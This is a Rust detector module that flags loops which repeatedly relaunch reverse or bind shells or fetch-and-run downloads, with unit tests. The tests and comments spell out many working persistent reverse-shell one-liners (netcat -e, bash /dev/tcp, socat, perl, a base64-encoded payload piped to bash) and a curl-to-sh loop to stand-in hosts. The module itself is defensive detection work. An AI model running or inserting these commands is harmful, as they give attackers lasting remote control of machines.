//! Loops that relaunch a shell or a callback: `while true; do nc H P -e /bin/sh; sleep 60;
//! done`, `while :`, `until ...; do`, `for ((;;))`, `for (;;) {...}` and `while (1)` in C-like
//! languages, Python's `while True:`, `watch -n N CMD`. A reverse shell inside such a loop
//! comes back every time it drops: persistence and command and control at once. Simple
//! `NAME=value` assignments are resolved first, so `nc $H $P` still names its target.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

use super::actions::{base64_payloads, download_exec, re, reverse_shell, RevShell};

/// What a loop relaunches.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Relaunched {
    /// A reverse (or bind) shell, with its target when named.
    Shell(RevShell),
    /// A download run at once (the URL, `?` when the command names none): a periodic fetch
    /// of whatever the server hands out.
    Fetch(String),
}

/// One loop that relaunches something.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Relaunch {
    /// The loop's header as written, shortened: `while :`, `until nc ...`, `for (;;)`,
    /// `watch -n 60`, `while True:`.
    pub construct: String,
    pub what: Relaunched,
    /// 1-based line of the loop's header in the text.
    pub line: usize,
}

impl Relaunch {
    /// `host:port` the loop connects to, when it names one (never for a bind shell).
    pub fn callback(&self) -> Option<&str> {
        match &self.what {
            Relaunched::Shell(r) if !r.bind => r.callback.as_deref(),
            _ => None,
        }
    }

    /// For a summary: `while : relaunches a reverse shell to 1.2.3.4:4444 (netcat -e), line 2`.
    pub fn describe(&self) -> String {
        let what = match &self.what {
            Relaunched::Shell(r) if r.bind => format!(
                "relaunches a bind shell on {} ({})",
                r.callback.as_deref().unwrap_or("an unknown port"),
                r.family
            ),
            Relaunched::Shell(r) => format!(
                "relaunches a reverse shell, callback {} ({})",
                r.callback.as_deref().unwrap_or("unknown"),
                r.family
            ),
            Relaunched::Fetch(u) => format!("fetches and runs {u} again and again"),
        };
        format!("`{}` loop {what}, line {}", self.construct, self.line)
    }
}

/// Longest text read (bytes); the rest is not looked at.
const MAX_TEXT: usize = 256 << 10;
/// Longest loop body read (bytes).
const MAX_BODY: usize = 8 << 10;
/// Most loops reported per text.
const MAX_LOOPS: usize = 8;
/// Most variables resolved per text.
const MAX_VARS: usize = 64;

static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?m)(?:^|[;&|\s])(?:export\s+|local\s+|readonly\s+)?([A-Za-z_][A-Za-z0-9_]{0,63})=(?:"([^"\n$`]*)"|'([^'\n]*)'|([^\s;&|'"$`()]*))"#,
    )
});
static VAR_REF: LazyLock<Regex> =
    LazyLock::new(|| re(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)"));

/// `text` with `$NAME` / `${NAME}` replaced by the value the text assigns to NAME (the last
/// plain assignment; values that are themselves expansions are left alone).
fn resolve_vars(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.contains('$') {
        return text.into();
    }
    let mut vars: BTreeMap<&str, &str> = BTreeMap::new();
    for c in ASSIGN.captures_iter(text) {
        let (Some(name), Some(value)) = (c.get(1), c.get(2).or_else(|| c.get(3)).or_else(|| c.get(4))) else {
            continue;
        };
        if vars.len() >= MAX_VARS && !vars.contains_key(name.as_str()) {
            continue;
        }
        vars.insert(name.as_str(), value.as_str());
    }
    if vars.is_empty() {
        return text.into();
    }
    VAR_REF.replace_all(text, |c: &regex::Captures| {
        let name = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
        vars.get(name).map_or_else(|| c[0].to_string(), |v| v.to_string())
    })
}

static SHELL_LOOP: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\b(?P<kw>while|until)\b(?P<cond>[^\n]*?)(?:;|\n)\s*do\b|\bfor\s*(?P<for>\(\([^)\n]*\)\)|[A-Za-z_][A-Za-z0-9_]*\s+in\b[^;\n]*)\s*(?:;|\n)\s*do\b",
    )
});
static DO_DONE: LazyLock<Regex> = LazyLock::new(|| re(r"\b(?:do|done)\b"));
static C_LOOP: LazyLock<Regex> =
    LazyLock::new(|| re(r"\b(?:for\s*\(\s*;\s*;\s*\)|while\s*\(\s*(?:1|true|TRUE|True|!0|!false)\s*\))"));
static PY_LOOP: LazyLock<Regex> = LazyLock::new(|| re(r"(?m)^([ \t]*)while\s+(?:True|1)\s*:(.*)$"));
static WATCH: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?m)(?:^|[\s;&|('`])watch(?P<opts>(?:\s+(?:-n\s*\S+|--interval[= ]\S+|-[A-Za-z]+|--[a-z-]+))*)\s+(?P<cmd>[^\n]+)",
    )
});
/// Script languages' sockets must also start a shell to be a reverse shell in a loop (a
/// client library reconnecting in a loop is not one).
static SHELLISH: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)/bin/(?:ba|da|z|k|a)?sh\b|\bsh\s+-i\b|pty\.spawn|subprocess|os\.dup2|\bexec\s*\(|popen|spawn\(|cmd\.exe|powershell"#,
    )
});

/// What a text must name for any loop in it to relaunch a shell or a fetch: the words the
/// reverse-shell, download and base64 checks need (a cheap filter, not a test).
const CALLBACK_MARKS: &[&str] = &[
    "/dev/tcp",
    "/dev/udp",
    "/inet/",
    "nc ",
    "nc.",
    "ncat",
    "netcat",
    "socat",
    "ocket",
    "telnet",
    "s_client",
    "ztcp",
    "xterm",
    "Dial(",
    "rcat",
    "TCPClient",
    "curl",
    "wget",
    "fetch",
    "tftp",
    "GET ",
    "lwp-",
    "base64",
    "b64",
    "atob(",
    "Base64",
];

static LOOP_WORDS: LazyLock<AhoCorasick> =
    LazyLock::new(|| AhoCorasick::new(["while", "until", "for", "watch"]).expect("literal patterns"));
static MARKS: LazyLock<AhoCorasick> =
    LazyLock::new(|| AhoCorasick::new(CALLBACK_MARKS).expect("literal patterns"));

/// Whether a reverse shell found in a loop body starts a shell.
fn shell_started(r: &RevShell, body: &str) -> bool {
    let socket_family = matches!(
        r.family,
        "python socket"
            | "perl socket"
            | "ruby TCPSocket"
            | "node net.Socket"
            | "lua socket"
            | "java Socket"
            | "go net.Dial"
            | "TCPClient"
            | "socket bind shell"
    );
    !socket_family || SHELLISH.is_match(body)
}

/// What a loop body relaunches, if anything.
fn relaunched(body: &str) -> Option<Relaunched> {
    if let Some(r) = reverse_shell(body).filter(|r| shell_started(r, body)) {
        return Some(Relaunched::Shell(r));
    }
    for d in base64_payloads(body) {
        if let Some(r) = reverse_shell(&d).filter(|r| shell_started(r, &d)) {
            return Some(Relaunched::Shell(r));
        }
    }
    download_exec(body).map(Relaunched::Fetch)
}

/// The end of a `do ... done` body starting at `from` (nested loops counted).
fn shell_body_end(text: &str, from: usize) -> usize {
    let limit = floor_char(text, from + MAX_BODY);
    let mut depth = 1usize;
    for m in DO_DONE.find_iter(&text[from..limit]) {
        if m.as_str() == "do" {
            depth += 1;
        } else {
            depth -= 1;
            if depth == 0 {
                return from + m.start();
            }
        }
    }
    limit
}

/// The end of a C-like loop's body: the matching `}` when it opens one, else the statement.
fn c_body_end(text: &str, from: usize) -> (usize, usize) {
    let limit = floor_char(text, from + MAX_BODY);
    let rest = &text[from..limit];
    let lead = rest.len() - rest.trim_start().len();
    if rest[lead..].starts_with('{') {
        let mut depth = 0usize;
        for (i, c) in rest.char_indices().skip_while(|(i, _)| *i < lead) {
            match c {
                '{' => depth += 1,
                '}' => {
                    depth -= 1;
                    if depth == 0 {
                        return (from + lead + 1, from + i);
                    }
                }
                _ => {}
            }
        }
        return (from + lead + 1, limit);
    }
    let end = rest.find([';', '\n']).map_or(limit, |i| from + i);
    (from, end)
}

/// The largest char boundary at or below `i` (and at most `text.len()`).
fn floor_char(text: &str, i: usize) -> usize {
    let mut i = i.min(text.len());
    while !text.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn clip(s: &str, max: usize) -> String {
    let s = s.split_whitespace().collect::<Vec<_>>().join(" ");
    match s.char_indices().nth(max) {
        Some((at, _)) => format!("{}…", &s[..at]),
        None => s,
    }
}

/// Every loop in `text` (a script or a command line) that relaunches a shell or a download
/// run at once, outermost first, at most [`MAX_LOOPS`].
pub(crate) fn relaunch_loops(text: &str) -> Vec<Relaunch> {
    let text = &text[..floor_char(text, MAX_TEXT)];
    let cheap = LOOP_WORDS.is_match(text) && MARKS.is_match(text);
    if !cheap {
        return vec![];
    }
    let resolved = resolve_vars(text);
    let text: &str = &resolved;
    // (start, end of the loop text, construct, body)
    let mut loops: Vec<(usize, usize, String, &str)> = vec![];
    for c in SHELL_LOOP.captures_iter(text) {
        let Some(m) = c.get(0) else { continue };
        let end = shell_body_end(text, m.end());
        let construct = match (c.name("kw"), c.name("cond"), c.name("for")) {
            (Some(kw), Some(cond), _) => {
                let cond = cond.as_str().trim();
                // `while read line` loops over input: the read loop of a one-shot shell.
                if kw.as_str() == "while" && (cond.starts_with("read ") || cond.starts_with("IFS=")) {
                    continue;
                }
                format!("{} {}", kw.as_str(), clip(cond, 40))
            }
            (_, _, Some(f)) => format!("for {}", clip(f.as_str(), 40)),
            _ => continue,
        };
        let from = c.name("cond").map_or(m.end(), |x| x.start());
        loops.push((m.start(), end, construct, &text[from..end]));
    }
    for m in C_LOOP.find_iter(text) {
        let (from, end) = c_body_end(text, m.end());
        loops.push((m.start(), end, clip(m.as_str(), 40), &text[from..end]));
    }
    for c in PY_LOOP.captures_iter(text) {
        let (Some(m), Some(indent), Some(same)) = (c.get(0), c.get(1), c.get(2)) else { continue };
        let mut end = m.end();
        let limit = floor_char(text, m.end() + MAX_BODY);
        for line in text[m.end()..limit].split_inclusive('\n').skip(1) {
            let ind = line.len() - line.trim_start_matches([' ', '\t']).len();
            if !line.trim().is_empty() && ind <= indent.len() {
                break;
            }
            end += line.len();
        }
        let from = if same.as_str().trim().is_empty() { m.end() } else { same.start() };
        loops.push((m.start(), end, "while True:".into(), &text[from.min(end)..end]));
    }
    for c in WATCH.captures_iter(text) {
        let (Some(m), Some(cmd)) = (c.get(0), c.name("cmd")) else { continue };
        let opts = c.name("opts").map_or("", |o| o.as_str());
        loops.push((cmd.start(), m.end(), clip(&format!("watch{opts}"), 40), cmd.as_str()));
    }
    loops.sort_by_key(|l| (l.0, std::cmp::Reverse(l.1)));
    let mut out: Vec<Relaunch> = vec![];
    let mut covered_until = 0usize;
    for (start, end, construct, body) in loops {
        if out.len() >= MAX_LOOPS {
            break;
        }
        if start < covered_until {
            continue; // inside a loop already reported
        }
        let Some(what) = relaunched(body) else { continue };
        covered_until = end;
        let line = text[..start].bytes().filter(|b| *b == b'\n').count() + 1;
        out.push(Relaunch { construct, what, line });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn first(text: &str) -> Option<(String, Option<String>, usize)> {
        relaunch_loops(text)
            .into_iter()
            .next()
            .map(|r| (r.construct.clone(), r.callback().map(str::to_string), r.line))
    }

    #[test]
    fn loops_that_relaunch_shells() {
        let t: &[(&str, &str, &str)] = &[
            ("#!/bin/sh\nwhile :; do nc 127.0.0.1 4444 -e /bin/sh; sleep 60; done\n", "while :", "127.0.0.1:4444"),
            ("while true; do nc 203.0.113.9 4444 -e /bin/sh; sleep 60; done", "while true", "203.0.113.9:4444"),
            (
                "while :; do bash -i >& /dev/tcp/203.0.113.9/443 0>&1; sleep 5; done",
                "while :",
                "203.0.113.9:443",
            ),
            ("until false\ndo\n  busybox nc evil.example 53 -e sh\n  sleep 30\ndone", "until false", "evil.example:53"),
            (
                "until nc 198.51.100.7 9001 -e /bin/bash; do sleep 10; done",
                "until nc 198.51.100.7 9001 -e /bin/bash",
                "198.51.100.7:9001",
            ),
            (
                "for ((;;)); do socat exec:'bash -li',pty tcp:203.0.113.9:8443; sleep 60; done",
                "for ((;;))",
                "203.0.113.9:8443",
            ),
            (
                r#"perl -e 'for(;;){system("nc -e /bin/sh 203.0.113.9 4444");sleep 60}'"#,
                "for(;;)",
                "203.0.113.9:4444",
            ),
            (
                "int main(){ while (1) { system(\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\"); sleep(30); } }",
                "while (1)",
                "203.0.113.9:4444",
            ),
            (
                "import os, time\nwhile True:\n    os.system(\"nc -e /bin/sh 203.0.113.9 4444\")\n    time.sleep(60)\nprint('x')\n",
                "while True:",
                "203.0.113.9:4444",
            ),
            ("watch -n 60 'nc 203.0.113.9 4444 -e /bin/sh'", "watch -n 60", "203.0.113.9:4444"),
            (
                "H=203.0.113.9\nP=\"4444\"\nwhile sleep 60; do nc $H ${P} -e /bin/sh; done\n",
                "while sleep 60",
                "203.0.113.9:4444",
            ),
        ];
        for (text, construct, cb) in t {
            let got = first(text).unwrap_or_else(|| panic!("missed: {text}"));
            assert_eq!((got.0.as_str(), got.1.as_deref()), (*construct, Some(*cb)), "{text}");
        }
        assert_eq!(first("echo a\n\nwhile :; do nc 1.2.3.4 1 -e sh; done").map(|g| g.2), Some(3));
    }

    #[test]
    fn loops_that_fetch_and_base64() {
        let r = relaunch_loops("while true; do curl -fsSL http://203.0.113.9/x.sh | sh; sleep 300; done");
        assert_eq!(r[0].what, Relaunched::Fetch("http://203.0.113.9/x.sh".into()));
        assert!(r[0].describe().contains("fetches and runs http://203.0.113.9/x.sh"), "{}", r[0].describe());
        // bash -i >& /dev/tcp/10.0.0.5/4444 0>&1
        let b64 = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuNS80NDQ0IDA+JjE=";
        let r = relaunch_loops(&format!("while :; do echo {b64} | base64 -d | bash; sleep 9; done"));
        assert_eq!(r[0].callback(), Some("10.0.0.5:4444"));
    }

    #[test]
    fn loops_that_are_not_relaunches() {
        for text in [
            "until nc -z db 5432; do echo waiting; sleep 1; done",
            "while true; do curl -fsS http://localhost:8080/health; sleep 30; done",
            "for f in /etc/*.conf; do echo $f; done",
            "exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "while True:\n    s = socket.socket(); s.connect((\"db.internal\", 5432)); time.sleep(5)\n",
            "for (;;) { poll(fds, 1, -1); }",
            "watch -n 5 kubectl get pods",
            "nc -e /bin/sh 203.0.113.9 4444",
            "the server restarts while the old one drains",
        ] {
            assert_eq!(relaunch_loops(text), vec![], "{text}");
        }
    }

    #[test]
    fn nested_loops_are_one_and_bind_shells_name_no_callback() {
        let text = "while :; do\n  for i in 1 2 3; do nc 203.0.113.9 4444 -e /bin/sh; done\n  sleep 60\ndone";
        let r = relaunch_loops(text);
        assert_eq!(r.len(), 1, "{r:?}");
        assert_eq!(r[0].construct, "while :");
        let r = relaunch_loops("while true; do nc -lvnp 4444 -e /bin/sh; done");
        assert_eq!(r[0].callback(), None);
        assert!(r[0].describe().contains("bind shell on 0.0.0.0:4444"), "{}", r[0].describe());
    }
}
